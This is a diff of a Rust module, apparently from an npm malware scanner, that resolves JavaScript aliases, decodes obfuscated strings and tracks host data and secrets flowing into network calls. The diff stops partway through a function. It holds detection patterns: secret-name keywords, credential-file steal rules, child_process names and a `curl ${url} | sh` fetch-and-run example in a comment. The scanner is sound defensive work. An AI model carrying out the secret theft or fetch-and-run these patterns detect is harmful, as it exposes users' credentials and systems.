@@ -1,286 +1,1319 @@
-//! JavaScript analysis (npm): `require`/`import` aliases, child_process, network,
-//! eval of decoded data, bulk reads of `process.env`.
+//! JavaScript analysis (npm). Resolves module aliases (`require`, `import`, `import()`,
+//! destructuring, `const exec = cp.exec`), string constants and escapes, then finds the
+//! behaviours of npm malware: child_process commands, network use, eval of decoded or
+//! downloaded code, host identity and secrets flowing into a request or a DNS name,
+//! clipboard swaps, sockets piped into shells, and obfuscator output. It fills the same
+//! per-file [`Facts`] as the Python analysis, so the package-level combinations (beacon,
+//! fetch-and-run, download-write-run) apply to JavaScript too.
+//!
+//! Scopes follow when code runs: the top level of a file and the callbacks it starts run
+//! when the file is loaded (or installed); bodies of named functions, methods and route
+//! handlers run when someone calls them.
 
-use std::collections::HashMap;
+use std::collections::{HashMap, HashSet};
 
 use tree_sitter::{Node, Parser};
 
+use crate::decode;
 use crate::ext;
-use crate::model::{Raw, Scope, Sink, snippet};
+use crate::model::{Facts, Raw, Scope, Sink, snippet};
 use crate::patterns;
+use malgraph_core::Stage;
+
+/// Where one JavaScript file's code runs.
+#[derive(Debug, Clone, Copy)]
+pub(crate) struct JsCtx<'a> {
+    pub path: &'a str,
+    /// The top level and the callbacks it starts.
+    pub top: Scope,
+    /// Bodies of named functions, methods and handlers.
+    pub func: Scope,
+    pub max_parse: usize,
+}
+
+/// Collected data, by how telling it is to send it. Host name and home directory: monitoring
+/// SDKs send them at run time too.
+const TAINT_WEAK: u8 = 1;
+/// User info, network interfaces, DNS servers, the whole environment, credential files.
+const TAINT_STRONG: u8 = 2;
+/// A secret-named environment variable: sent as an auth header by API clients at run time,
+/// by nothing benign while installing.
+const TAINT_SECRET: u8 = 4;
+
+/// `child_process` functions that start programs.
+const CHILD_PROCESS: &[&str] = &[
+    "exec",
+    "execSync",
+    "spawn",
+    "spawnSync",
+    "execFile",
+    "execFileSync",
+    "fork",
+];
+
+/// Calls whose callbacks are handlers run later (routes, CLI commands, tests), not now.
+const HANDLER_REGISTRARS: &[&str] = &[
+    "get",
+    "post",
+    "put",
+    "patch",
+    "delete",
+    "use",
+    "all",
+    "route",
+    "command",
+    "action",
+    "handler",
+    "describe",
+    "it",
+    "test",
+    "beforeEach",
+    "afterEach",
+    "task",
+];
 
 fn text<'a>(n: Node<'_>, src: &'a [u8]) -> &'a str {
     n.utf8_text(src).unwrap_or("")
 }
 
-/// Analyse JavaScript source; every finding gets `scope`.
-pub(crate) fn analyze(src: &[u8], path: &str, scope: Scope, max_parse: usize, sink: &mut Sink) {
+/// Visit every named node under `root` (pre-order) without recursion.
+fn walk<'t>(root: Node<'t>, mut f: impl FnMut(Node<'t>)) {
+    let mut stack = vec![root];
+    while let Some(n) = stack.pop() {
+        f(n);
+        let mut c = n.walk();
+        let start = stack.len();
+        stack.extend(n.named_children(&mut c));
+        stack[start..].reverse();
+    }
+}
+
+fn is_function(n: Node<'_>) -> bool {
+    matches!(
+        n.kind(),
+        "function_declaration"
+            | "generator_function_declaration"
+            | "function_expression"
+            | "generator_function"
+            | "arrow_function"
+            | "method_definition"
+    )
+}
+
+/// The value of a JavaScript string escape (`\x63`, `\u0063`, `\u{63}`, `\n`...).
+fn unescape(e: &str, out: &mut String) {
+    let body = &e[1.min(e.len())..];
+    let hex = |h: &str| u32::from_str_radix(h, 16).ok().and_then(char::from_u32);
+    let c = match body.chars().next() {
+        Some('x') => hex(&body[1..]),
+        Some('u') => hex(body[1..].trim_start_matches('{').trim_end_matches('}')),
+        Some('n') => Some('\n'),
+        Some('t') => Some('\t'),
+        Some('r') => Some('\r'),
+        Some('0') if body.len() == 1 => Some('\0'),
+        Some('\n') | Some('\r') => None,
+        Some(c) => Some(c),
+        None => None,
+    };
+    out.extend(c);
+}
+
+/// What one file's declarations tell: module aliases, constants, initialisers, taint.
+struct Js<'t> {
+    src: &'t [u8],
+    /// Local name → module path (`cp` → `child_process`, `exec` → `child_process.exec`).
+    aliases: HashMap<String, String>,
+    /// Local name → string constant.
+    consts: HashMap<String, String>,
+    /// Local name → the expressions assigned to it.
+    inits: Vec<(String, Node<'t>)>,
+    taint: HashMap<String, u8>,
+    /// Names holding a request or socket (`const req = https.request(...)`).
+    net_vars: HashSet<String>,
+    /// How many places bind each name (declarations, assignments, parameters). Names are
+    /// tracked file-wide, not per scope: a name bound in several places (bundles reuse
+    /// `body`, `socket`, `e` in hundreds of functions) is not followed.
+    bindings: HashMap<String, u32>,
+}
+
+impl<'t> Js<'t> {
+    fn text(&self, n: Node<'_>) -> &'t str {
+        text(n, self.src)
+    }
+
+    /// A literal string's value with its escapes decoded.
+    fn literal(&self, n: Node<'_>) -> Option<String> {
+        if !matches!(n.kind(), "string" | "template_string") {
+            return None;
+        }
+        let mut out = String::new();
+        let mut c = n.walk();
+        for p in n.named_children(&mut c) {
+            match p.kind() {
+                "string_fragment" => out.push_str(self.text(p)),
+                "escape_sequence" => unescape(self.text(p), &mut out),
+                "template_substitution" => {
+                    let inner = p.named_child(0)?;
+                    out.push_str(&self.static_str(inner)?);
+                }
+                _ => {}
+            }
+        }
+        Some(out)
+    }
+
+    /// The string an expression always evaluates to, when the file says so: literals,
+    /// constants, `+` and template concatenation, `String.fromCharCode`, base64 or hex
+    /// decoded with `Buffer.from(...).toString()` or `atob`.
+    fn static_str(&self, n: Node<'_>) -> Option<String> {
+        self.static_str_depth(n, 0)
+    }
+
+    fn static_str_depth(&self, n: Node<'_>, depth: u32) -> Option<String> {
+        if depth > 16 {
+            return None;
+        }
+        match n.kind() {
+            "string" | "template_string" => self.literal(n),
+            "identifier" => self.consts.get(self.text(n)).cloned(),
+            "parenthesized_expression" => self.static_str_depth(n.named_child(0)?, depth + 1),
+            "binary_expression" => {
+                let op = n.child_by_field_name("operator")?;
+                if self.text(op) != "+" {
+                    return None;
+                }
+                let l = self.static_str_depth(n.child_by_field_name("left")?, depth + 1)?;
+                let r = self.static_str_depth(n.child_by_field_name("right")?, depth + 1)?;
+                Some(l + &r)
+            }
+            "call_expression" => {
+                let f = n.child_by_field_name("function")?;
+                let args = n.child_by_field_name("arguments")?;
+                let name = self.canon(f);
+                if name == "String.fromCharCode" {
+                    let mut c = args.walk();
+                    let mut out = String::new();
+                    for a in args.named_children(&mut c) {
+                        let t = self.text(a);
+                        let v = match t.strip_prefix("0x") {
+                            Some(h) => u32::from_str_radix(h, 16).ok()?,
+                            None => t.parse().ok()?,
+                        };
+                        out.push(char::from_u32(v)?);
+                    }
+                    return Some(out);
+                }
+                if name == "atob" {
+                    let s = self.static_str_depth(args.named_child(0)?, depth + 1)?;
+                    return bytes_text(decode::b64(s.as_bytes())?);
+                }
+                // Buffer.from(s, 'base64' | 'hex').toString()
+                if f.kind() == "member_expression"
+                    && f.child_by_field_name("property")
+                        .is_some_and(|p| self.text(p) == "toString")
+                {
+                    let inner = f.child_by_field_name("object")?;
+                    if inner.kind() != "call_expression"
+                        || self.canon(inner.child_by_field_name("function")?) != "Buffer.from"
+                    {
+                        return None;
+                    }
+                    let ia = inner.child_by_field_name("arguments")?;
+                    let s = self.static_str_depth(ia.named_child(0)?, depth + 1)?;
+                    let enc = ia.named_child(1).and_then(|e| self.literal(e));
+                    return match enc.as_deref() {
+                        Some("base64") => bytes_text(decode::b64(s.as_bytes())?),
+                        Some("hex") => bytes_text(decode::unhex(s.as_bytes())?),
+                        None | Some("utf8" | "utf-8") => Some(s),
+                        _ => None,
+                    };
+                }
+                None
+            }
+            _ => None,
+        }
+    }
+
+    /// Best-effort text of an expression: the static value, or literal parts with the rest
+    /// as written (`curl ${url} | sh`).
+    fn loose_str(&self, n: Node<'_>) -> String {
+        if let Some(s) = self.static_str(n) {
+            return s;
+        }
+        match n.kind() {
+            "binary_expression" => {
+                let part = |f| n.child_by_field_name(f).map(|x| self.loose_str(x));
+                format!(
+                    "{}{}",
+                    part("left").unwrap_or_default(),
+                    part("right").unwrap_or_default()
+                )
+            }
+            "template_string" => {
+                let mut out = String::new();
+                let mut c = n.walk();
+                for p in n.named_children(&mut c) {
+                    match p.kind() {
+                        "string_fragment" => out.push_str(self.text(p)),
+                        "escape_sequence" => unescape(self.text(p), &mut out),
+                        _ => match p.named_child(0).and_then(|x| self.static_str(x)) {
+                            Some(s) => out.push_str(&s),
+                            None => out.push_str(self.text(p)),
+                        },
+                    }
+                }
+                out
+            }
+            "array" => {
+                let mut c = n.walk();
+                let parts: Vec<String> = n
+                    .named_children(&mut c)
+                    .map(|x| self.loose_str(x))
+                    .collect();
+                parts.join(" ")
+            }
+            _ => self.text(n).to_string(),
+        }
+    }
+
+    /// The module (or module member) an expression denotes: `require('x')`,
+    /// `require('x').y`, `await import('x')`, `cp.exec` with `cp` an alias.
+    fn module_of(&self, n: Node<'_>) -> Option<String> {
+        match n.kind() {
+            "call_expression" => {
+                let f = n.child_by_field_name("function")?;
+                let ft = self.text(f);
+                if f.kind() != "import" && ft != "require" && !ft.ends_with(".require") {
+                    return None;
+                }
+                let arg = n.child_by_field_name("arguments")?.named_child(0)?;
+                let m = self.static_str(arg)?;
+                Some(m.strip_prefix("node:").unwrap_or(&m).to_string())
+            }
+            "member_expression" => {
+                let obj = n.child_by_field_name("object")?;
+                let prop = n.child_by_field_name("property")?;
+                let base = self.module_of(obj)?;
+                Some(format!("{base}.{}", self.text(prop)))
+            }
+            "identifier" => self.aliases.get(self.text(n)).cloned(),
+            "await_expression" | "parenthesized_expression" => self.module_of(n.named_child(0)?),
+            _ => None,
+        }
+    }
+
+    /// Dotted name of a callee with aliases resolved (`cp.exec` → `child_process.exec`,
+    /// `require('os').hostname` → `os.hostname`, `globalThis.fetch` → `fetch`).
+    fn canon(&self, n: Node<'_>) -> String {
+        let s = self.canon_inner(n, 0);
+        for p in ["globalThis.", "window.", "global.", "self."] {
+            if let Some(rest) = s.strip_prefix(p) {
+                return rest.to_string();
+            }
+        }
+        s
+    }
+
+    fn canon_inner(&self, n: Node<'_>, depth: u32) -> String {
+        if depth > 12 {
+            return String::new();
+        }
+        if let Some(m) = self.module_of(n) {
+            return m;
+        }
+        match n.kind() {
+            "identifier" => self.text(n).to_string(),
+            "member_expression" => {
+                let obj = n.child_by_field_name("object");
+                let prop = n.child_by_field_name("property");
+                match (obj, prop) {
+                    (Some(o), Some(p)) => {
+                        format!("{}.{}", self.canon_inner(o, depth + 1), self.text(p))
+                    }
+                    _ => String::new(),
+                }
+            }
+            "subscript_expression" => {
+                let obj = n.child_by_field_name("object");
+                let idx = n.child_by_field_name("index");
+                match (obj, idx.and_then(|i| self.static_str(i))) {
+                    (Some(o), Some(i)) => format!("{}.{i}", self.canon_inner(o, depth + 1)),
+                    _ => String::new(),
+                }
+            }
+            "parenthesized_expression" | "await_expression" => n
+                .named_child(0)
+                .map(|x| self.canon_inner(x, depth + 1))
+                .unwrap_or_default(),
+            _ if n.byte_range().len() <= 120 => self.text(n).to_string(),
+            _ => String::new(),
+        }
+    }
+
+    /// Whether `name` is bound in at most one place of the file.
+    fn unique(&self, name: &str) -> bool {
+        self.bindings.get(name).copied().unwrap_or(0) <= 1
+    }
+
+    /// Whether `name` holds a request or a socket.
+    fn is_net_var(&self, name: &str) -> bool {
+        self.net_vars.contains(name) && self.unique(name)
+    }
+
+    fn count_binding(&mut self, name: Node<'_>) {
+        if name.kind() == "identifier" {
+            *self
+                .bindings
+                .entry(self.text(name).to_string())
+                .or_default() += 1;
+        }
+    }
+
+    /// Record what `name = value` tells.
+    fn bind(&mut self, name: Node<'t>, value: Node<'t>) {
+        self.count_binding(name);
+        if let Some(m) = self.module_of(value) {
+            match name.kind() {
+                "identifier" => {
+                    self.aliases.insert(self.text(name).to_string(), m);
+                }
+                "object_pattern" => {
+                    let mut c = name.walk();
+                    for p in name.named_children(&mut c) {
+                        let (key, local) = match p.kind() {
+                            "shorthand_property_identifier_pattern" => (self.text(p), self.text(p)),
+                            "pair_pattern" => (
+                                p.child_by_field_name("key").map_or("", |k| self.text(k)),
+                                p.child_by_field_name("value").map_or("", |v| self.text(v)),
+                            ),
+                            _ => continue,
+                        };
+                        self.aliases.insert(local.to_string(), format!("{m}.{key}"));
+                    }
+                }
+                _ => {}
+            }
+            return;
+        }
+        if name.kind() != "identifier" {
+            return;
+        }
+        let local = self.text(name).to_string();
+        if let Some(s) = self.static_str(value) {
+            self.consts.insert(local.clone(), s);
+        }
+        if matches!(value.kind(), "call_expression" | "new_expression") {
+            let f = value
+                .child_by_field_name("function")
+                .or_else(|| value.child_by_field_name("constructor"));
+            if f.is_some_and(|f| is_network(&self.canon(f))) {
+                self.net_vars.insert(local.clone());
+            }
+        }
+        self.inits.push((local, value));
+    }
+
+    fn import_statement(&mut self, n: Node<'t>) {
+        let Some(s) = n.child_by_field_name("source") else {
+            return;
+        };
+        let m = self.literal(s).unwrap_or_default();
+        let m = m.strip_prefix("node:").unwrap_or(&m).to_string();
+        let t = self.text(n);
+        // import cp from 'x' / import * as cp from 'x' / import {exec} from 'x'
+        let head = t.split(" from ").next().unwrap_or("");
+        let head = head.trim_start_matches("import").trim();
+        if let Some(rest) = head.strip_prefix("* as ") {
+            self.aliases.insert(rest.trim().to_string(), m);
+        } else if let Some(inner) = head.strip_prefix('{') {
+            for part in inner.trim_end_matches('}').split(',') {
+                let mut it = part.split(" as ");
+                let key = it.next().unwrap_or("").trim();
+                let local = it.next().unwrap_or(key).trim();
+                if !key.is_empty() {
+                    self.aliases.insert(local.to_string(), format!("{m}.{key}"));
+                }
+            }
+        } else if !head.is_empty() {
+            self.aliases
+                .insert(head.trim_end_matches(',').to_string(), m);
+        }
+    }
+
+    /// What collected data an expression carries (function bodies inside it excluded).
+    fn taint_of(&self, root: Node<'_>) -> u8 {
+        let mut t = 0u8;
+        let mut stack = vec![root];
+        let mut budget = 4000usize;
+        while let Some(n) = stack.pop() {
+            budget = budget.saturating_sub(1);
+            if budget == 0 {
+                break;
+            }
+            match n.kind() {
+                "identifier" | "shorthand_property_identifier" if self.unique(self.text(n)) => {
+                    t |= self.taint.get(self.text(n)).copied().unwrap_or(0);
+                }
+                "call_expression" => {
+                    if let Some(f) = n.child_by_field_name("function") {
+                        t |= self.source_call(&self.canon(f), n);
+                    }
+                }
+                "member_expression" => {
+                    let obj = n.child_by_field_name("object");
+                    if obj.is_some_and(|o| self.text(o) == "process.env") {
+                        let prop = n
+                            .child_by_field_name("property")
+                            .map_or("", |p| self.text(p));
+                        if is_secret_name(prop) {
+                            t |= TAINT_SECRET;
+                        }
+                        continue;
+                    }
+                    if self.text(n) == "process.env" {
+                        t |= TAINT_STRONG;
+                        continue;
+                    }
+                }
+                _ if is_function(n) => continue,
+                _ => {}
+            }
+            let mut c = n.walk();
+            stack.extend(n.named_children(&mut c));
+        }
+        t
+    }
+
+    /// The taint a call returns (collection APIs, reads of credential files).
+    fn source_call(&self, name: &str, call: Node<'_>) -> u8 {
+        match name {
+            "os.hostname" | "os.homedir" => TAINT_WEAK,
+            "os.userInfo" | "os.networkInterfaces" | "dns.getServers" => TAINT_STRONG,
+            "fs.readFileSync" | "fs.readFile" | "fs.promises.readFile" | "fs/promises.readFile" => {
+                let names_secret = call
+                    .child_by_field_name("arguments")
+                    .and_then(|a| a.named_child(0))
+                    .map(|a| self.loose_str(a))
+                    .is_some_and(|p| {
+                        patterns::string_rules(&p)
+                            .iter()
+                            .any(|(r, _)| r.starts_with("STEAL-"))
+                    });
+                if names_secret { TAINT_STRONG } else { 0 }
+            }
+            _ => 0,
+        }
+    }
+
+    /// Spread taint along assignments, `x += y`, and
+    /// into the parameters of callbacks given to methods of tainted values
+    /// (`chunks.forEach(c => ...)`).
+    fn propagate(&mut self, root: Node<'t>) {
+        // Until nothing changes (a chain of n assignments needs n rounds), at most 6.
+        for _ in 0..6 {
+            let mut updates: Vec<(String, u8)> = Vec::new();
+            for (name, init) in &self.inits {
+                let t = self.taint_of(*init);
+                if t != 0 {
+                    updates.push((name.clone(), t));
+                }
+            }
+            walk(root, |n| match n.kind() {
+                "augmented_assignment_expression" => {
+                    if let (Some(l), Some(r)) = (
+                        n.child_by_field_name("left"),
+                        n.child_by_field_name("right"),
+                    ) && l.kind() == "identifier"
+                    {
+                        let t = self.taint_of(r);
+                        if t != 0 {
+                            updates.push((self.text(l).to_string(), t));
+                        }
+                    }
+                }
+                "call_expression" => {
+                    let Some(f) = n.child_by_field_name("function") else {
+                        return;
+                    };
+                    let Some(obj) = f.child_by_field_name("object") else {
+                        return;
+                    };
+                    let t = self.taint_of(obj);
+                    if t == 0 || f.kind() != "member_expression" {
+                        return;
+                    }
+                    let Some(args) = n.child_by_field_name("arguments") else {
+                        return;
+                    };
+                    let mut c = args.walk();
+                    for a in args.named_children(&mut c).filter(|a| is_function(*a)) {
+                        for p in params(a) {
+                            updates.push((self.text(p).to_string(), t));
+                        }
+                    }
+                }
+                _ => {}
+            });
+            let mut changed = false;
+            for (name, t) in updates {
+                let e = self.taint.entry(name).or_default();
+                changed |= *e | t != *e;
+                *e |= t;
+            }
+            if !changed {
+                break;
+            }
+        }
+    }
+
+    /// Whether sending `args` at `scope` sends collected data worth reporting.
+    fn sends_collected(&self, args: Node<'_>, scope: Scope) -> bool {
+        let t = self.taint_of(args);
+        t & TAINT_STRONG != 0 || (scope.stage != Stage::Runtime && t != 0)
+    }
+}
+
+/// Identifier parameters of a function node.
+fn params(f: Node<'_>) -> Vec<Node<'_>> {
+    if let Some(p) = f.child_by_field_name("parameter") {
+        return vec![p];
+    }
+    let Some(ps) = f.child_by_field_name("parameters") else {
+        return Vec::new();
+    };
+    let mut c = ps.walk();
+    ps.named_children(&mut c)
+        .filter(|p| p.kind() == "identifier")
+        .collect()
+}
+
+fn bytes_text(b: Vec<u8>) -> Option<String> {
+    String::from_utf8(b).ok()
+}
+
+/// A secret-looking environment variable name (`NPM_TOKEN`, `AWS_SECRET_ACCESS_KEY`).
+fn is_secret_name(n: &str) -> bool {
+    let u = n.to_ascii_uppercase();
+    [
+        "TOKEN",
+        "SECRET",
+        "PASSWORD",
+        "PASSWD",
+        "API_KEY",
+        "APIKEY",
+        "PRIVATE_KEY",
+        "CREDENTIAL",
+    ]
+    .iter()
+    .any(|k| u.contains(k))
+        || u.starts_with("AWS_")
+}
+
+/// A plausible bare host name (`abc.oast.fun`), not a number or a file name.
+fn bare_host(s: &str) -> bool {
+    let s = s.trim();
+    s.len() <= 253
+        && s.contains('.')
+        && !s.starts_with('.')
+        && !s.ends_with('.')
+        && s.bytes()
+            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-' || b == b'.')
+        && s.bytes().any(|b| b.is_ascii_lowercase())
+        && !s.rsplit('.').next().is_some_and(|tld| {
+            matches!(
+                tld,
+                "js" | "json"
+                    | "ts"
+                    | "mjs"
+                    | "cjs"
+                    | "node"
+                    | "md"
+                    | "txt"
+                    | "map"
+                    | "css"
+                    | "html"
+            )
+        })
+}
+
+/// Analyse one JavaScript file into `sink`; returns the facts that package-level rules
+/// combine.
+pub(crate) fn analyze(src: &[u8], ctx: &JsCtx<'_>, sink: &mut Sink) -> Facts {
+    let mut facts = Facts::default();
     sink.code_bytes += src.len() as u64;
     sink.code_lines += src.iter().filter(|&&c| c == b'\n').count() as u64 + 1;
-    if src.len() > max_parse {
-        return;
+    if src.len() > ctx.max_parse {
+        return facts;
     }
     let mut parser = Parser::new();
     if parser
         .set_language(&tree_sitter_javascript::LANGUAGE.into())
         .is_err()
     {
-        return;
+        return facts;
     }
     let Some(tree) = parser.parse(src, None) else {
-        return;
+        return facts;
     };
-    let mut aliases: HashMap<String, String> = HashMap::new();
-    // First pass: require / import aliases.
-    let mut stack = vec![tree.root_node()];
-    while let Some(n) = stack.pop() {
-        match n.kind() {
-            "variable_declarator" => {
-                if let (Some(name), Some(value)) = (
-                    n.child_by_field_name("name"),
-                    n.child_by_field_name("value"),
-                ) && let Some(m) = required_module(value, src)
-                {
-                    sink.imports.insert(m.clone());
-                    match name.kind() {
-                        "identifier" => {
-                            aliases.insert(text(name, src).to_string(), m);
-                        }
-                        "object_pattern" => {
-                            let mut c = name.walk();
-                            for p in name.named_children(&mut c) {
-                                let (key, local) = match p.kind() {
-                                    "shorthand_property_identifier_pattern" => {
-                                        (text(p, src), text(p, src))
-                                    }
-                                    "pair_pattern" => (
-                                        p.child_by_field_name("key").map_or("", |k| text(k, src)),
-                                        p.child_by_field_name("value").map_or("", |v| text(v, src)),
-                                    ),
-                                    _ => continue,
-                                };
-                                aliases.insert(local.to_string(), format!("{m}.{key}"));
-                            }
-                        }
-                        _ => {}
-                    }
-                }
+    let root = tree.root_node();
+    let mut js = Js {
+        src,
+        aliases: HashMap::new(),
+        consts: HashMap::new(),
+        inits: Vec::new(),
+        taint: HashMap::new(),
+        net_vars: HashSet::new(),
+        bindings: HashMap::new(),
+    };
+    walk(root, |n| match n.kind() {
+        "variable_declarator" => {
+            if let (Some(name), Some(value)) = (
+                n.child_by_field_name("name"),
+                n.child_by_field_name("value"),
+            ) {
+                js.bind(name, value);
             }
-            "import_statement" => {
-                if let Some(s) = n.child_by_field_name("source") {
-                    let m = text(s, src).trim_matches(['\'', '"', '`']).to_string();
-                    let m = m.strip_prefix("node:").unwrap_or(&m).to_string();
-                    sink.imports.insert(m.clone());
-                    let t = text(n, src);
-                    // import cp from 'x' / import * as cp from 'x' / import {exec} from 'x'
-                    let head = t.split(" from ").next().unwrap_or("");
-                    let head = head.trim_start_matches("import").trim();
-                    if let Some(rest) = head.strip_prefix("* as ") {
-                        aliases.insert(rest.trim().to_string(), m.clone());
-                    } else if let Some(inner) = head.strip_prefix('{') {
-                        for part in inner.trim_end_matches('}').split(',') {
-                            let mut it = part.split(" as ");
-                            let key = it.next().unwrap_or("").trim();
-                            let local = it.next().unwrap_or(key).trim();
-                            if !key.is_empty() {
-                                aliases.insert(local.to_string(), format!("{m}.{key}"));
-                            }
-                        }
-                    } else if !head.is_empty() {
-                        aliases.insert(head.trim_end_matches(',').to_string(), m.clone());
-                    }
-                }
-            }
-            _ => {}
         }
-        let mut c = n.walk();
-        stack.extend(n.named_children(&mut c));
+        "assignment_expression" => {
+            if let (Some(l), Some(r)) = (
+                n.child_by_field_name("left"),
+                n.child_by_field_name("right"),
+            ) {
+                js.bind(l, r);
+            }
+        }
+        "import_statement" => js.import_statement(n),
+        _ if is_function(n) => {
+            for p in params(n) {
+                js.count_binding(p);
+            }
+        }
+        _ => {}
+    });
+    for m in js.aliases.values() {
+        sink.imports
+            .insert(m.split('.').next().unwrap_or(m).to_string());
     }
-    let canon = |n: Node<'_>| -> String {
-        let t = text(n, src);
-        let (head, rest) = match t.find('.') {
-            Some(i) => (&t[..i], &t[i..]),
-            None => (t, ""),
-        };
-        match aliases.get(head) {
-            Some(a) => format!("{a}{rest}"),
-            None => t.to_string(),
-        }
-    };
-    let push = |rule: &'static str, n: Node<'_>, message: String, sink: &mut Sink| {
-        sink.findings.push(Raw {
+    // Taint only matters where something is collected.
+    if [
+        &b"hostname"[..],
+        b"userInfo",
+        b"networkInterfaces",
+        b"getServers",
+        b"homedir",
+        b"process.env",
+        b"readFile",
+    ]
+    .iter()
+    .any(|k| memchr::memmem::find(src, k).is_some())
+    {
+        js.propagate(root);
+    }
+    Walker {
+        js: &js,
+        ctx,
+        sink,
+        facts: &mut facts,
+        evals: Vec::new(),
+        writes: Vec::new(),
+        socket_line: None,
+        obf_idents: HashSet::new(),
+        escaped_strings: 0,
+        hidden: Vec::new(),
+        strings: 0,
+    }
+    .run(root);
+    facts
+}
+
+/// The behaviour walk over one file.
+struct Walker<'a, 't> {
+    js: &'a Js<'t>,
+    ctx: &'a JsCtx<'a>,
+    sink: &'a mut Sink,
+    facts: &'a mut Facts,
+    /// eval of a non-literal: (node, function id, scope, inside a network callback).
+    evals: Vec<(Node<'t>, usize, Scope, bool)>,
+    /// File writes: (line, function id, scope, snippet, inside a network callback).
+    writes: Vec<(u32, usize, Scope, String, bool)>,
+    socket_line: Option<(u32, Scope, String)>,
+    obf_idents: HashSet<&'t str>,
+    escaped_strings: usize,
+    /// Decoded values of escaped string literals (checked as commands when obfuscated).
+    hidden: Vec<(u32, String)>,
+    strings: usize,
+}
+
+impl<'t> Walker<'_, 't> {
+    fn push(&mut self, rule: &'static str, n: Node<'_>, scope: Scope, message: String) {
+        self.sink.findings.push(Raw {
             rule,
-            file: path.to_string(),
+            file: self.ctx.path.to_string(),
             line: n.start_position().row as u32 + 1,
-            snippet: snippet(text(n, src)),
+            snippet: snippet(text(n, self.js.src)),
             layer: 0,
             message,
             stage: Some(scope.stage),
             factor: scope.factor,
         });
-    };
-    let mut stack = vec![tree.root_node()];
-    let mut strings = 0usize;
-    while let Some(n) = stack.pop() {
-        match n.kind() {
-            "call_expression" | "new_expression" => {
-                let f = n
-                    .child_by_field_name("function")
-                    .or_else(|| n.child_by_field_name("constructor"));
-                let args = n.child_by_field_name("arguments");
-                if let Some(f) = f {
-                    let name = canon(f);
-                    let name = name.strip_prefix("node:").unwrap_or(&name).to_string();
-                    let last = name.rsplit('.').next().unwrap_or(&name).to_string();
-                    let args_text = args.map_or("", |a| text(a, src));
-                    if name.starts_with("child_process.")
-                        && matches!(
-                            last.as_str(),
-                            "exec"
-                                | "execSync"
-                                | "spawn"
-                                | "spawnSync"
-                                | "execFile"
-                                | "execFileSync"
-                                | "fork"
-                        )
+    }
+
+    /// Whether the function `f` runs as part of the code around it (a callback handed to
+    /// a call, an immediately invoked function) rather than when someone calls it.
+    fn inherits(&self, f: Node<'_>, top_called: &HashSet<&str>) -> bool {
+        let Some(parent) = f.parent() else {
+            return false;
+        };
+        match parent.kind() {
+            "arguments" => {
+                let callee = parent
+                    .parent()
+                    .and_then(|c| c.child_by_field_name("function"));
+                let name = callee.map(|c| self.js.canon(c)).unwrap_or_default();
+                let last = name.rsplit('.').next().unwrap_or(&name);
+                is_network(&name) || !HANDLER_REGISTRARS.contains(&last)
+            }
+            "call_expression" => true,
+            "parenthesized_expression" => parent
+                .parent()
+                .is_some_and(|g| g.kind() == "call_expression"),
+            _ => {
+                f.kind() == "function_declaration"
+                    && f.child_by_field_name("name")
+                        .is_some_and(|n| top_called.contains(text(n, self.js.src)))
+            }
+        }
+    }
+
+    fn run(mut self, root: Node<'t>) {
+        let src = self.js.src;
+        // Functions called from the top level run at load time.
+        let mut top_called: HashSet<&str> = HashSet::new();
+        let mut stack = vec![(root, false)];
+        while let Some((n, inside)) = stack.pop() {
+            if !inside
+                && n.kind() == "call_expression"
+                && let Some(f) = n.child_by_field_name("function")
+                && f.kind() == "identifier"
+            {
+                top_called.insert(text(f, src));
+            }
+            let mut c = n.walk();
+            for ch in n.named_children(&mut c) {
+                stack.push((ch, inside || is_function(ch)));
+            }
+        }
+
+        let mut stack: Vec<(Node<'t>, usize, Scope, bool)> = vec![(root, 0, self.ctx.top, false)];
+        while let Some((n, fid, scope, in_net)) = stack.pop() {
+            let mut child_net = in_net;
+            match n.kind() {
+                "call_expression" | "new_expression" if self.call(n, fid, scope, in_net) => {
+                    child_net = true;
+                }
+                "string" | "template_string" => self.string(n, scope),
+                "identifier" => {
+                    let t = text(n, src);
+                    if t.len() >= 5
+                        && t.starts_with("_0x")
+                        && t[3..].bytes().all(|b| b.is_ascii_hexdigit())
                     {
-                        push(
-                            "JS-CHILD-PROCESS",
-                            n,
-                            format!("runs a command with `{name}`"),
-                            sink,
-                        );
-                        for p in patterns::command_rules(args_text) {
-                            push(p.rule, n, format!("command {}", p.what), sink);
-                        }
-                    } else if matches!(
-                        name.as_str(),
-                        "eval" | "Function" | "vm.runInThisContext" | "vm.runInNewContext"
-                    ) || name.ends_with("vm.Script")
-                    {
-                        if args_text.contains("base64")
-                            || args_text.contains("atob(")
-                            || args_text.contains("fromCharCode")
-                            || args_text.contains("'hex'")
-                        {
-                            push(
-                                "JS-EVAL-DECODED",
-                                n,
-                                format!("`{name}` runs decoded code"),
-                                sink,
-                            );
-                        } else if args
-                            .is_some_and(|a| a.named_child(0).is_some_and(|x| x.kind() != "string"))
-                        {
-                            push(
-                                "JS-EVAL-DYNAMIC",
-                                n,
-                                format!("`{name}` runs dynamically built code"),
-                                sink,
-                            );
-                        }
-                    } else if is_js_network(&name) {
-                        push(
-                            "JS-NETWORK",
-                            n,
-                            format!("network access with `{name}`"),
-                            sink,
-                        );
-                        if args_text.contains("process.env")
-                            || args_text.contains("hostname()")
-                            || args_text.contains("userInfo()")
-                        {
-                            push(
-                                "EXFIL-SEND-COLLECTED",
-                                n,
-                                "sends host or environment data over the network".into(),
-                                sink,
-                            );
-                        }
-                    } else if matches!(
-                        name.as_str(),
-                        "os.hostname" | "os.userInfo" | "os.networkInterfaces"
-                    ) {
-                        push(
-                            "JS-HOSTINFO",
-                            n,
-                            format!("collects host identity with `{name}`"),
-                            sink,
-                        );
-                    } else if name == "JSON.stringify"
-                        && args_text.trim_matches(['(', ')']).trim() == "process.env"
-                    {
-                        push(
-                            "JS-ENV-BULK",
-                            n,
-                            "serialises the whole environment".into(),
-                            sink,
-                        );
+                        self.obf_idents.insert(t);
+                    }
+                }
+                _ => {}
+            }
+            let mut c = n.walk();
+            let start = stack.len();
+            for ch in n.named_children(&mut c) {
+                if is_function(ch) && !self.inherits(ch, &top_called) {
+                    stack.push((ch, ch.id(), self.ctx.func, false));
+                } else {
+                    stack.push((ch, fid, scope, child_net));
+                }
+            }
+            stack[start..].reverse();
+        }
+        self.finish();
+    }
+
+    /// One call or `new`; returns whether it is a network call (its callbacks get the
+    /// response).
+    fn call(&mut self, n: Node<'t>, fid: usize, scope: Scope, in_net: bool) -> bool {
+        let js = self.js;
+        let Some(f) = n
+            .child_by_field_name("function")
+            .or_else(|| n.child_by_field_name("constructor"))
+        else {
+            return false;
+        };
+        let name = js.canon(f);
